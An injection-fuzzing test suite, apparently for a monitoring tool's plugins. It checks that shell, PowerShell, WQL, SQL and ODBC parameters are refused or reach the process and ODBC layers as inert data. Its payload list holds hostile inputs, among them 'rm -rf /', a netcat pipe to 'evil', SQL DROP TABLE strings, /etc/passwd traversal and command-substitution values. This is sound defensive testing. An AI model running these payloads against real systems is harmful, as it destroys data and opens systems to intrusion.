// Injection fuzzing of every plugin's parameters (fast-check, fixed seed): shell metacharacters,
// quotes, WQL/SQL and ODBC injections, traversal, NUL and over-long values are refused by the
// manifest or reach the transport seam (RunProcess, ODBC connect) as inert data, never as syntax.
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import {
  parseParams,
  PluginParamsError,
  type Platform,
  type ProcessRequest,
  type StepContext,
} from '@esmon/schema';
import { createDb2Plugin } from '@esmon/plugin-db2';
import { pluginById } from './index.ts';

const SEED = 20261207;
const INJECTIONS = [
  '; rm -rf /',
  '&& rm -rf ~',
  '| nc evil 4444',
  '`id`',
  '$(id)',
  '${IFS}id',
  '\nid',
  '\r\nid',
  "' OR 1=1 --",
  '" OR ""="',
  "'; DROP TABLE t; --",
  '../../../../etc/passwd',
  '..\\..\\windows\\system32',
  '\u0000',
  'a\u0000b',
  '%00',
  '-rf',
  '--help',
  '-oProxyCommand=id',
  "'+(iex 'id')+'",
  '"; Invoke-Expression id; "',
  '‘; id; ’',
  '@(id)',
  '$env:PATH',
  '}\n\nid\n& {',
  'x'.repeat(70_000),
  ';UID=evil',
  '};PWD=evil;{',
  'DSN=a;UID=b',
  '{',
  '}',
  '=',
  '*',
  '?',
  '[a]',
  '::1]/x',
  '127.0.0.1;id',
];
const nasty = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...INJECTIONS) },
  fc.string({ unit: 'binary', maxLength: 40 }),
);
/** A benign value with an injection spliced in somewhere. */
const spliced = (base: string) =>
  fc
    .tuple(nasty, fc.nat())
    .map(([bad, at]) => base.slice(0, at % (base.length + 1)) + bad + base.slice(at % (base.length + 1)));

const cases: Record<string, number> = {};
const answers: Record<string, Record<string, number>> = {};
const count = (cls: string, answer: string) => {
  cases[cls] = (cases[cls] ?? 0) + 1;
  const tally = (answers[cls] ??= {});
  tally[answer] = (tally[answer] ?? 0) + 1;
};

/** A StepContext whose `run` records what would have been started, and answers like a silent success. */
function recordingContext(platform: Platform, secrets: Record<string, string> = {}) {
  const runs: ProcessRequest[] = [];
  const ctx: StepContext = {
    now: () => Date.now(),
    timeoutMs: 1000,
    platform,
    signal: new AbortController().signal,
    run: async (request) => {
      runs.push(structuredClone(request));
      return { exitCode: 0, stdout: '', stderr: '', timedOut: false, durationMs: 1 };
    },
    secret: (ref) => secrets[ref],
  };
  return { ctx, runs };
}

/** Validates, prepares and executes one step; 'refused' when the manifest (or prepare) says no. */
async function runStep(id: string, params: unknown, platform: Platform) {
  const plugin = pluginById(id)!;
  const { ctx, runs } = recordingContext(platform);
  let prepared: unknown;
  try {
    prepared = plugin.prepare(parseParams(plugin.manifest, params));
  } catch (err) {
    if (err instanceof PluginParamsError) return { refused: true as const, runs };
    throw err;
  }
  await plugin.execute(prepared, ctx);
  return { refused: false as const, runs, prepared };
}

/** The values of PowerShell string expressions as wmi/quote.ts writes them: 'a''b', [char]0x0041, ( … + … ). */
function psValues(script: string): { skeleton: string; values: string[] } {
  const values: string[] = [];
  const part = /'((?:[^']|'')*)'|\[char\]0x([0-9A-F]{4})/g;
  const joined =
    /\((?:'(?:[^']|'')*'|\[char\]0x[0-9A-F]{4})(?: \+ (?:'(?:[^']|'')*'|\[char\]0x[0-9A-F]{4}))*\)|'(?:[^']|'')*'/g;
  const skeleton = script.replace(joined, (expr) => {
    values.push(
      [...expr.matchAll(part)]
        .map((m) =>
          m[1] !== undefined ? m[1].replaceAll("''", "'") : String.fromCharCode(parseInt(m[2]!, 16)),
        )
        .join(''),
    );
    return 'S';
  });
  return { skeleton, values };
}

describe('plugin parameter injection', () => {
  afterAll(() => console.log(JSON.stringify({ fuzz: 'plugins', seed: SEED, cases, answers })));

  it('command: argv reaches RunProcess element by element, verbatim, with no shell in between', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.oneof(nasty, fc.constantFrom('/usr/bin/check', 'echo', 'sh')), {
          minLength: 0,
          maxLength: 6,
        }),
        async (argv) => {
          const r = await runStep('command', { argv, metric: 'check.value' }, 'linux');
          count('command', r.refused ? 'refused' : 'ran');
          if (r.refused) return;
          expect(r.runs).toHaveLength(1);
          expect(r.runs[0]!.file).toBe(argv[0]);
          expect(r.runs[0]!.args).toEqual(argv.slice(1));
          expect(r.runs[0]!.stdin).toBeUndefined();
          expect(argv.some((a) => a.includes('\u0000'))).toBe(false);
        },
      ),
      { seed: SEED, numRuns: 400, endOnFailure: true },
    );
  });

  it('systemctl: only well-formed unit names, after `--`, as separate arguments', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(
          fc.oneof(
            spliced('nginx.service'),
            nasty,
            fc.constantFrom('sshd.service', '-x.service', 'a\\x2db.mount'),
          ),
          { minLength: 1, maxLength: 4 },
        ),
        async (units) => {
          const r = await runStep('systemctl', { units }, 'linux');
          count('systemctl', r.refused ? 'refused' : 'ran');
          if (r.refused) return;
          const args = r.runs[0]!.args;
          expect(r.runs[0]!.file).toBe('systemctl');
          expect(args.slice(args.indexOf('--') + 1)).toEqual(units);
          for (const u of units)
            expect(u).toMatch(/^[A-Za-z0-9_:@\\][A-Za-z0-9_:.@\\-]*\.(service|socket|timer|mount|target)$/);
        },
      ),
      { seed: SEED, numRuns: 400, endOnFailure: true },
    );
  });

  it('powershell: the script goes on stdin only; the command line is fixed', async () => {
    let fixedArgs: readonly string[] | undefined;
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(spliced('Get-Date | Out-Null; 1'), nasty),
        fc.constantFrom<Platform>('windows', 'linux'),
        async (script, platform) => {
          const r = await runStep('powershell', { script }, platform);
          count('powershell', r.refused ? 'refused' : 'ran');
          if (r.refused) return;
          const run = r.runs[0]!;
          expect(run.file).toBe(platform === 'windows' ? 'powershell.exe' : 'pwsh');
          fixedArgs ??= run.args;
          expect(run.args).toEqual(fixedArgs);
          expect(run.args).toEqual([
            '-NoProfile',
            '-NonInteractive',
            '-ExecutionPolicy',
            'Bypass',
            '-Command',
            '-',
          ]);
          // one block, run as a script: `& {` … `}` and the blank line that ends it
          expect(run.stdin!.startsWith('& {\n')).toBe(true);
          expect(run.stdin!.endsWith('\n}\n\n')).toBe(true);
        },
      ),
      { seed: SEED, numRuns: 300, endOnFailure: true },
    );
  });

  it('wmi: names, classes, properties and WQL reach PowerShell only inside quoted string expressions', async () => {
    const benign = await runStep(
      'wmi',
      { className: 'Win32_Service', properties: ['ProcessId'], labelProperties: ['Name'] },
      'windows',
    );
    const benignSkeleton = psValues(benign.runs[0]!.stdin!).skeleton;
    const field = fc.constantFrom('namespace', 'className', 'property', 'label', 'query');
    await fc.assert(
      fc.asyncProperty(
        field,
        fc.oneof(
          spliced('Win32_Service'),
          spliced("SELECT ProcessId, Name FROM Win32_Service WHERE Name = 'x'"),
          nasty,
        ),
        async (where, bad) => {
          const params: Record<string, unknown> = {
            className: 'Win32_Service',
            properties: ['ProcessId'],
            labelProperties: ['Name'],
          };
          if (where === 'namespace') params.namespace = bad;
          if (where === 'className') params.className = bad;
          if (where === 'property') params.properties = [bad];
          if (where === 'label') params.labelProperties = [bad];
          if (where === 'query') Object.assign(params, { source: 'query', query: bad, className: undefined });
          const r = await runStep('wmi', params, 'windows');
          count('wmi', r.refused ? `refused ${where}` : `ran ${where}`);
          if (r.refused) return;
          const run = r.runs[0]!;
          expect(run.file).toBe('powershell.exe');
          expect(run.args).toEqual(['-NoProfile', '-NonInteractive', '-Command', '-']);
          // one line of printable ASCII: no newline, no typographic quote, no NUL can reach PowerShell
          expect(run.stdin).toMatch(/^[\x20-\x7e]*\n$/);
          // with every string expression taken out, the script is the benign one, word for word
          const { skeleton, values } = psValues(run.stdin!);
          expect(skeleton).toBe(benignSkeleton);
          if (where === 'namespace') expect(values[0]).toBe(bad);
          if (where === 'query') expect(values[1]).toBe(bad.replace(/\s+/g, ' ').trim());
        },
      ),
      { seed: SEED, numRuns: 500, endOnFailure: true },
    );
  });

  it('db2: secrets and DSNs cannot add connection-string keys; SQL is one read-only statement', async () => {
    const connected: string[] = [];
    const plugin = createDb2Plugin({
      connect: async (connectionString) => {
        connected.push(connectionString);
        throw Object.assign(new Error('recorded, not connected'), {
          odbcErrors: [{ state: '08001', message: 'recorded' }],
        });
      },
    });
    await fc.assert(
      fc.asyncProperty(
        nasty,
        nasty,
        fc.oneof(spliced('MAXDB'), nasty),
        fc.oneof(spliced('SELECT COUNT(*) FROM MAXIMO.WORKORDER WHERE STATUS = ?'), nasty),
        async (user, password, dsn, sql) => {
          let prepared;
          try {
            prepared = plugin.prepare(
              parseParams(plugin.manifest, {
                dsn,
                sql,
                user: 'secret:db_user',
                password: 'secret:db_password',
                parameters: [user],
              }),
            );
          } catch (err) {
            if (!(err instanceof PluginParamsError)) throw err;
            count('db2', 'refused');
            return;
          }
          count('db2', 'checked');
          const { ctx } = recordingContext('linux', {
            'secret:db_user': user,
            'secret:db_password': password,
          });
          connected.length = 0;
          const outcome = await plugin.check(prepared, ctx);
          expect(outcome.ok).toBe(false);
          // a message never shows the secrets themselves
          if (password.length >= 12) expect(outcome.message).not.toContain(password);
          expect(connected).toHaveLength(1);
          expect(odbcKeys(connected[0]!)).toEqual([
            ['DSN', dsn.trim()],
            ['UID', user],
            ['PWD', password],
          ]);
          // the statement: one, read-only, the parameter bound rather than spliced in
          // (the guard reads the first word: punctuation before it, as in `(SELECT …) UNION …`, passes)
          expect(prepared.sql).toMatch(/^[^A-Za-z0-9_]*(SELECT|WITH|VALUES)\b/i);
          expect(prepared.parameters).toEqual([user]);
        },
      ),
      { seed: SEED, numRuns: 400, endOnFailure: true },
    );
  });

  it('tcp: the host is a host name or an IP address, nothing more', async () => {
    await fc.assert(
      fc.asyncProperty(fc.oneof(spliced('db01.example.com'), spliced('::1'), nasty), (host) => {
        const plugin = pluginById('tcp')!;
        let parsed: { host: string } | undefined;
        try {
          parsed = parseParams(plugin.manifest, { host, port: 5432 }) as { host: string };
          plugin.prepare(parsed);
        } catch (err) {
          if (!(err instanceof PluginParamsError)) throw err;
        }
        count('tcp', parsed ? 'accepted' : 'refused');
        // the host as validated (trimmed): a name, or an IP address, with nothing around it
        if (parsed) expect(parsed.host).toMatch(/^(?:[A-Za-z0-9_.-]+|[0-9A-Fa-f:.]+)$/);
      }),
      { seed: SEED, numRuns: 400, endOnFailure: true },
    );
  });

  it('http: only http(s) URLs, as the request target, never a shell or file', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          spliced('https://example.com/health'),
          nasty,
          fc.constantFrom(
            'file:///etc/passwd',
            'javascript:alert(1)',
            'gopher://x',
            'http://user:pw@x/',
            'http://[::1',
            'ftp://x',
          ),
        ),
        (url) => {
          const plugin = pluginById('http')!;
          let prepared: unknown;
          try {
            prepared = plugin.prepare(parseParams(plugin.manifest, { url }));
          } catch (err) {
            if (!(err instanceof PluginParamsError)) throw err;
            count('http', 'refused');
            return;
          }
          count('http', 'accepted');
          expect(new URL(url).protocol).toMatch(/^https?:$/);
          expect(JSON.stringify(prepared)).not.toContain('\u0000');
        },
      ),
      { seed: SEED, numRuns: 400, endOnFailure: true },
    );
  });
});

/** ODBC `KEY=value;` pairs, values optionally braced with `}}` for a `}`: what a driver reads. */
function odbcKeys(text: string): [string, string][] {
  const pairs: [string, string][] = [];
  let i = 0;
  while (i < text.length) {
    const eq = text.indexOf('=', i);
    if (eq < 0) throw new Error(`no = after offset ${i} in ${text}`);
    const key = text.slice(i, eq).trim();
    let value = '';
    let j = eq + 1;
    if (text[j] === '{') {
      j++;
      for (; j < text.length; j++) {
        if (text[j] === '}' && text[j + 1] === '}') {
          value += '}';
          j++;
        } else if (text[j] === '}') break;
        else value += text[j];
      }
      j++;
    } else {
      const end = text.indexOf(';', j);
      value = text.slice(j, end < 0 ? text.length : end);
      j = end < 0 ? text.length : end;
    }
    pairs.push([key, value]);
    if (text[j] === ';') j++;
    i = j;
  }
  return pairs;
}
